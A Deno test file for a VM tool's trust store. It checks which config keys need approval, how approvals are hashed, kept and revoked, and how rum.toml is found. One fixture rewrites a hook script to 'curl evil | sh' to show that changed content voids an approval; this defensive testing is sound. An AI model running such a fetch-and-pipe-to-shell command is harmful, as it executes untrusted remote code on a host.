/** Which keys reach the host, what an approval covers, and where it is kept. */
import assert from "node:assert/strict";
import { RumError } from "../../../src/base/errors.ts";
import { findConfig } from "../../../src/config/find.ts";
import { hostKeysOf, trustHash } from "../../../src/config/trust.ts";
import { rumPaths } from "../../../src/plan/paths.ts";
import {
  approve,
  requireApprovedKey,
  requireTrust,
  requireUnchanged,
  revoke,
  trustStatus,
} from "../../../src/store/trust_store.ts";
import { BASE, type FakeDisk, good, PROJECT } from "./fake_reader.ts";

const IMAGE = '[image]\nbase = "debian-12"\n';
const DISK: FakeDisk = {
  ...BASE,
  "/etc/passwd": "root",
  "/outside": null,
  "/outside/f": "x",
  "/home/u/projectile": null,
  [`${PROJECT}/in`]: null,
  [`${PROJECT}/f`]: "x",
  [`${PROJECT}/hook.sh`]: "echo 1\n",
  [`${PROJECT}/link`]: { link: "/outside" },
  "/home/u/.git": null,
};

/** Text → the keys that need approval. */
const KEYS: readonly (readonly [string, string, ...string[]])[] = [
  ["nothing", ""],
  [
    "mounts inside the project",
    "[[mounts]]\nsource='.'\ntarget='/a'\n[[mounts]]\nsource='in'\ntarget='/b'",
  ],
  ["a mount outside", "[[mounts]]\nsource='/outside'\ntarget='/a'", "mounts[0].source"],
  ["a mount through ..", "[[mounts]]\nsource='in/../..'\ntarget='/a'", "mounts[0].source"],
  [
    "a mount of a folder that begins alike",
    "[[mounts]]\nsource='../projectile'\ntarget='/a'",
    "mounts[0].source",
  ],
  [
    "a mount through a link inside the project",
    "[[mounts]]\nsource='link'\ntarget='/a'",
    "mounts[0].source",
  ],
  ["a mount of the home folder", "[[mounts]]\nsource='~'\ntarget='/a'", "mounts[0].source"],
  ["a work tree around the project", "[[mounts]]\nsource='git'\ntarget='/a'", "mounts[0].source"],
  ["a script inside", "[provision.system]\nfile='f'"],
  ["a script outside", "[provision.system]\nfile='/etc/passwd'", "provision.system.file"],
  ["a script through a link", "[provision.boot]\nfile='link/f'", "provision.boot.file"],
  [
    "an env_file outside",
    "[services.a]\ncommand=['x']\nenv_file='/outside/f'",
    "services.a.env_file",
  ],
  [
    "loopback binds",
    "[[ports]]\nhost=1\nguest=1\nbind='127.9.9.9'\n[[ports]]\nhost=1\nguest=1\nbind='0:0::1'",
  ],
  ["a wide bind", "[[ports]]\nhost=1\nguest=1\nbind='0.0.0.0'", "ports[0].bind"],
  ["an address bind", "[[ports]]\nhost=1\nguest=1\nbind='192.168.1.5'", "ports[0].bind"],
  ["a mapped IPv6 bind", "[[ports]]\nhost=1\nguest=1\nbind='::'", "ports[0].bind"],
  ["automatic ports on loopback", "[auto_ports]"],
  ["automatic ports wide open", "[auto_ports]\nbind='::'", "auto_ports.bind"],
  ["a hook", "[on.ready]\nexec=['true']", "on.ready.exec"],
  ["another ssh", "[ssh]\ncommand='./f'", "ssh.command"],
  ["the usual ssh", "[ssh]\ncommand='ssh'"],
  ["a hypervisor", "[advanced]\nlibvirt_uri='qemu:///system'", "advanced.libvirt_uri"],
  ["the hypervisor that is chosen anyway", "[advanced]\nlibvirt_uri='auto'"],
  ["screenshots inside", "[tasks.screenshot]\nevery='5m'\nfolder='in/new'"],
  [
    "screenshots outside",
    "[tasks.screenshot]\nevery='5m'\nfolder='/outside/new'",
    "tasks.screenshot.folder",
  ],
];

for (const [what, text, ...wanted] of KEYS) {
  Deno.test(`host keys: ${what}`, async () => {
    const { hostKeys } = await good(IMAGE + text, DISK);
    assert.deepEqual(hostKeys.map(({ key }) => key), wanted);
  });
}

Deno.test("host keys: an image file outside the project", async () => {
  const { hostKeys } = await good("image.base = '/outside/f'", DISK);
  assert.deepEqual(hostKeys.map(({ key }) => key), ["image.base"]);
  assert.deepEqual((await good("image.base = './f'", DISK)).hostKeys, []);
});

async function hashOf(text: string, disk = DISK): Promise<string | undefined> {
  return trustHash((await good(IMAGE + text, disk)).hostKeys);
}

Deno.test("an approval covers the words of a command one by one, and a script's content", async () => {
  const hook = (words: string) => `[on.ready]\nexec=${words}`;
  const first = await hashOf(hook("['sh', '-c', './hook.sh up']"));
  assert.notEqual(first, await hashOf(hook("['sh', '-c', './hook.sh', 'up']")));
  const changed = { ...DISK, [`${PROJECT}/hook.sh`]: "curl evil | sh\n" };
  assert.notEqual(first, await hashOf(hook("['sh', '-c', './hook.sh up']"), changed));
  for (const words of ["['--exec=hook.sh']", "['./hook.sh']", "['sh', 'hook.sh']"]) {
    assert.notEqual(await hashOf(hook(words)), await hashOf(hook(words), changed), words);
  }
});

Deno.test("an approval does not cover what stays in the project, nor the order of mounts", async () => {
  const outside = "[[mounts]]\nsource='/outside'\ntarget='/a'\n";
  const inside = "[[mounts]]\nsource='.'\ntarget='/b'\n";
  const first = await hashOf(outside + inside);
  assert.equal(first, await hashOf(inside + outside));
  assert.equal(first, await hashOf(outside + "[resources]\ncpus=4"));
  assert.notEqual(first, await hashOf(outside.replace("\n", "\nreadonly=true\n")));
  assert.equal(await hashOf(inside), undefined);
});

async function inTemp(work: (paths: ReturnType<typeof rumPaths>, folder: string) => Promise<void>) {
  const folder = await Deno.makeTempDir();
  try {
    await work(rumPaths({ uid: Deno.uid()!, home: folder, xdgDataHome: folder }), folder);
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
}

const HOOK = `${IMAGE}[on.ready]\nexec=['true']\n`;

Deno.test("unapproved keys are refused, asked once on a terminal, and remembered", async () => {
  await inTemp(async (paths) => {
    const { config } = await good(HOOK, DISK);
    const asked: string[][] = [];
    const ask = (answer: boolean) => (status: { fresh: readonly { key: string }[] }) => {
      asked.push(status.fresh.map(({ key }) => key));
      return Promise.resolve(answer);
    };
    const refused = (error: unknown) =>
      error instanceof RumError && error.code === "untrusted_config" && error.exitCode === 3 &&
      error.hint === "rum trust" && /on\.ready\.exec/.test(error.message);
    await assert.rejects(requireTrust({ config, paths, canAsk: false, ask: ask(true) }), refused);
    await assert.rejects(requireTrust({ config, paths, canAsk: true, ask: ask(false) }), refused);
    await requireTrust({ config, paths, canAsk: true, ask: ask(true) });
    await requireTrust({ config, paths, canAsk: false, ask: ask(false) });
    assert.deepEqual(asked, [["on.ready.exec"], ["on.ready.exec"]]);
    assert.equal((await Deno.stat(paths.trust)).mode! & 0o777, 0o600);

    const { config: more } = await good(`${HOOK}[[ports]]\nhost=1\nguest=1\nbind='::'`, DISK);
    const status = await trustStatus({ config: more, paths });
    assert.equal(status.trusted, false);
    assert.equal(status.keys.length, 2);
    assert.deepEqual(status.fresh.map(({ key }) => key), ["ports[0].bind"]);
  });
});

Deno.test("an approval holds for one file only, and a damaged record approves nothing", async () => {
  await inTemp(async (paths) => {
    const { config } = await good(HOOK, DISK);
    await approve({ config, paths });
    const elsewhere = { ...config, path: "/other/rum.toml" };
    assert.equal((await trustStatus({ config: elsewhere, paths })).trusted, false);
    assert.equal((await trustStatus({ config, paths })).trusted, true);
    for (const damage of ["", "{", "[]", "null", '{"v":1}', '{"v":1,"approved":{"x":1}}']) {
      await Deno.writeTextFile(paths.trust, damage);
      assert.equal((await trustStatus({ config, paths })).trusted, false, damage);
    }
    await Deno.writeTextFile(paths.trust, '{"v":2,"approved":{}}');
    await assert.rejects(trustStatus({ config, paths }), { code: "state_newer" });
  });
});

Deno.test("an approval that is taken back no longer holds, for what runs already neither", async () => {
  await inTemp(async (paths) => {
    const { config } = await good(HOOK, DISK);
    const other = { ...config, path: "/other/rum.toml" };
    await approve({ config, paths });
    await approve({ config: other, paths });
    assert.equal(await revoke({ path: config.path, paths }), true);
    assert.equal((await trustStatus({ config, paths })).trusted, false);
    assert.equal((await trustStatus({ config: other, paths })).trusted, true);
    await assert.rejects(requireApprovedKey(paths, config.path, hostKeysOf(config)[0]), {
      code: "untrusted_config",
    });
    assert.equal(await revoke({ path: config.path, paths }), false);
  });
});

Deno.test("approvals made at the same time are all kept", async () => {
  await inTemp(async (paths) => {
    const { config } = await good(HOOK, DISK);
    const configs = Array.from({ length: 12 }, (_, i) => ({ ...config, path: `/p${i}/rum.toml` }));
    await Promise.all(configs.map((config) => approve({ config, paths })));
    for (const config of configs) {
      assert.equal((await trustStatus({ config, paths })).trusted, true, config.path);
    }
  });
});

Deno.test("ssh.command: a file of the project that changed, went or came after its approval does not run", async () => {
  await inTemp(async (_paths, temp) => {
    const folder = await Deno.realPath(temp);
    const path = folder + "/hook.sh";
    const place = { folder, home: folder };
    const refused = { code: "untrusted_config", hint: "rum trust" };
    await requireUnchanged(path, undefined, place);
    await Deno.writeTextFile(path, "");
    const sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    await requireUnchanged(path, { path, sha256 }, place);
    await assert.rejects(requireUnchanged(path, undefined, place), refused);
    await Deno.writeTextFile(path, "x");
    await assert.rejects(requireUnchanged(path, { path, sha256 }, place), refused);
    await Deno.remove(path);
    await assert.rejects(requireUnchanged(path, { path, sha256 }, place), refused);
    await requireUnchanged("/usr/bin/env", undefined, place);
  });
});

Deno.test("hostKeysOf finds nothing in a machine that keeps to itself", async () => {
  assert.deepEqual(hostKeysOf((await good(IMAGE)).config), []);
});

const FILES: Readonly<Record<string, "file" | "folder">> = {
  "/a": "folder",
  "/a/rum.toml": "file",
  "/a/b/c": "folder",
  "/a/x": "folder",
  "/a/x/rum.toml": "file",
  "/a/dev.rum.toml": "file",
};
const FOUND: readonly (readonly [string, string, string | undefined, string | undefined])[] = [
  ["the one here", "/a", undefined, "/a/rum.toml"],
  ["the nearest above", "/a/b/c", undefined, "/a/rum.toml"],
  ["the one named", "/a/b/c", "../../dev.rum.toml", "/a/dev.rum.toml"],
  ["the one in the folder named", "/", "a/x", "/a/x/rum.toml"],
  ["none above", "/z", undefined, undefined],
  ["none of that name", "/a", "none.toml", undefined],
  ["none in the folder named", "/", "a/b/c", undefined],
];
for (const [what, cwd, explicit, wanted] of FOUND) {
  Deno.test(`the rum.toml that is meant: ${what}`, async () => {
    const kind = (path: string) => Promise.resolve(FILES[path]);
    const found = findConfig({ cwd, explicit, kind });
    if (wanted === undefined) await assert.rejects(found, { code: "config_not_found" });
    else assert.equal(await found, wanted);
  });
}
